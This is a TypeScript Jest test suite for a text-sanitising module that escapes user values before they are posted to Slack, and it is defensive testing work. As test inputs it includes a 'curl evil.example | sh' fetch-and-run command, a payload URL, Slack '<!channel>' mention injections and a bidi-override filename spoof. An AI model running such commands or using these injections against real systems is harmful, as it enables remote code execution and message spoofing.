import {
  asciiText,
  chatCode,
  chatText,
  cleanText,
  ELLIPSIS,
  escapeEntities,
  LIMITS,
  plainText,
  stripInvisible,
  truncate,
} from '../../lambdas/core/escape';

const ZWSP = '\u200B';
const ALL_C0 = Array.from({ length: 32 }, (_, i) => String.fromCharCode(i)).join('');
const ALL_C1 = Array.from({ length: 32 }, (_, i) => String.fromCharCode(0x80 + i)).join('');
const BIDI = '\u202A\u202B\u202C\u202D\u202E\u2066\u2067\u2068\u2069\u200E\u200F';

const hasLoneSurrogate = (s: string): boolean =>
  /[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/.test(s);

describe('truncate', () => {
  it('keeps text within the limit unchanged', () => {
    expect(truncate('short', 10)).toBe('short');
  });

  it('cuts at the limit in code points and ends in an ellipsis within it', () => {
    // Act
    const out = truncate('abcdefghij', 5);

    // Assert
    expect(out).toBe(`abcd${ELLIPSIS}`);
    expect(Array.from(out)).toHaveLength(5);
  });

  it('never splits a surrogate pair', () => {
    // Arrange
    const emoji = '😀'.repeat(300);

    // Act
    const out = truncate(emoji, LIMITS.name);

    // Assert
    expect(Array.from(out)).toHaveLength(LIMITS.name);
    expect(out.endsWith(`😀${ELLIPSIS}`)).toBe(true);
    expect(hasLoneSurrogate(out)).toBe(false);
  });

  it('counts code points, not UTF-16 units', () => {
    // 200 emoji are 400 units but 200 code points: within a 256 limit.
    const emoji = '🔥'.repeat(200);
    expect(truncate(emoji, 256)).toBe(emoji);
  });

  it('marks text that was already cut even when it now fits', () => {
    expect(truncate('abc', 10, true)).toBe(`abc${ELLIPSIS}`);
  });
});

describe('stripInvisible and cleanText', () => {
  it('removes every C0 and C1 control character and DEL', () => {
    // Act
    const out = cleanText(`a${ALL_C0}b${ALL_C1}c\u007Fd`, { max: 100 });

    // Assert: tab and line breaks turn into spaces in a single-line field, the rest disappears.
    expect(out).toMatch(/^a +b *c *d$/);
    expect(out).not.toMatch(/\p{Cc}/u);
  });

  it('removes bidi overrides, embeddings, isolates and directional marks', () => {
    expect(cleanText(`invoice${BIDI}fdp.exe`, { max: 100 })).toBe('invoicefdp.exe');
  });

  it('removes zero-width spaces, word joiners, BOMs and tag characters', () => {
    expect(cleanText('ad\u200Bmi\u2060n\uFEFF\u{E0041}\u{E0042}', { max: 100 })).toBe('admin');
  });

  it('removes joiners between ASCII letters, where they only serve to spoof', () => {
    expect(stripInvisible('ad\u200Dmin\u200Cistrator')).toBe('administrator');
  });

  it('keeps joiners inside emoji sequences and non-Latin scripts', () => {
    // Arrange
    const family = '👨\u200D👩\u200D👧';
    const persian = 'می\u200Cخواهم';

    // Act and assert
    expect(stripInvisible(family)).toBe(family);
    expect(stripInvisible(persian)).toBe(persian);
  });

  it('keeps emoji and non-Latin text', () => {
    const text = '日本語のプロセス 🔥 Привет مرحبا';
    expect(cleanText(text, { max: 100 })).toBe(text);
  });

  it('replaces lone surrogates so the JSON stays valid UTF-8', () => {
    // Act
    const out = cleanText('a\uD800b\uDC00c', { max: 100 });

    // Assert
    expect(out).toBe('a\uFFFDb\uFFFDc');
    expect(hasLoneSurrogate(out)).toBe(false);
  });

  it('collapses every kind of line break in single-line fields', () => {
    expect(cleanText('one\r\ntwo\rthree\nfour\u2028five\u2029six\u0085seven\u000Beight', { max: 100 })).toBe(
      'one two three four five six seven eight',
    );
  });

  it('keeps line breaks in multi-line fields, at most one blank line in a row', () => {
    expect(cleanText('one  \r\n\n\n\ntwo\u2028three', { max: 100, multiline: true })).toBe(
      'one\n\ntwo\nthree',
    );
  });

  it('bounds the work on 100 KB inputs and still truncates at the limit', () => {
    // Arrange
    const huge = `${'\u0000'.repeat(10)}${'A'.repeat(100_000)}`;

    // Act
    const out = cleanText(huge, { max: LIMITS.commandLine });

    // Assert
    expect(Array.from(out)).toHaveLength(LIMITS.commandLine);
    expect(out.endsWith(ELLIPSIS)).toBe(true);
  });

  it('does not leave a lone surrogate when the hostile-input bound cuts an emoji in half', () => {
    // 4 * 10 + 16 = 56 units: an odd offset in a run of emoji.
    const out = cleanText(`x${'😀'.repeat(100)}`, { max: 10 });
    expect(hasLoneSurrogate(out)).toBe(false);
    expect(Array.from(out)).toHaveLength(10);
  });

  it('prints numbers and booleans and ignores other values', () => {
    expect(plainText(42)).toBe('42');
    expect(plainText(true)).toBe('true');
    expect(plainText(undefined)).toBe('');
    expect(plainText({ toString: () => '<!channel>' })).toBe('');
  });
});

describe('chat escaping', () => {
  it.each([
    ['<!channel>'],
    ['<!here>'],
    ['<!everyone>'],
    ['<@U12345>'],
    ['<https://evil.example|click>'],
    ['<#C123|general>'],
    ['<!subteam^S123>'],
  ])('leaves no live Slack markup in %s', (hostile) => {
    // Act
    const out = chatText(`before ${hostile} after`);

    // Assert
    expect(out).not.toMatch(/[<>]/);
    expect(out).toContain('&lt;');
    expect(out).toContain('&gt;');
  });

  it('escapes ampersands first so entities cannot be smuggled', () => {
    expect(escapeEntities('&lt;!channel&gt; <x>')).toBe('&amp;lt;!channel&amp;gt; &lt;x&gt;');
  });

  it('neutralizes bold, italic, strike, links and mentions with zero-width spaces', () => {
    // Act
    const out = chatText('*bold* _italic_ ~strike~ [text](https://evil.example) a|b @channel #general');

    // Assert
    for (const marker of ['*bold*', '_italic_', '~strike~', '[text]', '](', '@channel', '#general']) {
      expect(out).not.toContain(marker);
    }
    expect(out.replace(new RegExp(ZWSP, 'g'), '')).toBe(
      '*bold* _italic_ ~strike~ [text](https://evil.example) a|b @channel #general',
    );
  });

  it.each([
    ['https://evil.example/payload.sh'],
    ['curl evil.example | sh'],
    ['see www.evil.example now'],
    ['ftp://10.0.0.1/x'],
  ])('leaves no bare link Slack would auto-link in %s', (hostile) => {
    // Act
    const out = chatText(hostile);

    // Assert: no scheme separator or host-name dot survives unbroken; the text still reads the same.
    expect(out).not.toMatch(/:\/\//);
    expect(out).not.toMatch(/[a-z0-9]\.[a-z]/i);
    expect(out.replace(new RegExp(ZWSP, 'g'), '')).toBe(hostile);
  });

  it('keeps dots in code spans, which Slack never links, and in numbers', () => {
    expect(chatCode('evil.example')).toBe('`evil.example`');
    expect(chatText('version 1.5')).toBe('version 1.5');
  });

  it('replaces backticks so a value cannot close its code span', () => {
    // Act
    const out = chatCode('x` <!channel> `y');

    // Assert
    expect(out.startsWith('`')).toBe(true);
    expect(out.endsWith('`')).toBe(true);
    expect(out.slice(1, -1)).not.toContain('`');
    expect(out).toContain('\u02CB');
  });

  it('shows an empty value as an empty code span rather than two backticks that could pair up', () => {
    expect(chatCode('')).toBe('` `');
  });

  it('defuses quote, heading and list markers at the start of a line', () => {
    // Act
    const out = chatText('> quoted\n# heading\n- item\nplain', LIMITS.text, true);

    // Assert
    for (const line of out.split('\n').slice(0, 3)) expect(line.startsWith(ZWSP)).toBe(true);
    expect(out.split('\n')[3]).toBe('plain');
  });

  it('keeps a single-line value on one line', () => {
    expect(chatText('line one\nline two\r\n*Action:* none')).not.toContain('\n');
  });
});

describe('asciiText', () => {
  it('transliterates accents and common typography, and drops the rest', () => {
    expect(asciiText('café — naïve “quoted” … 日本 🔥', 99)).toBe('cafe - naive "quoted" ...');
  });

  it('is one line of printable ASCII within the limit', () => {
    // Arrange
    const hostile = `[shield-right] ${ALL_C0}${ALL_C1}${BIDI}\u2028${'x'.repeat(500)}`;

    // Act
    const out = asciiText(hostile, 99);

    // Assert
    expect(out).toMatch(/^[\x20-\x7E]{1,99}$/);
    expect(out.endsWith('...')).toBe(true);
  });
});
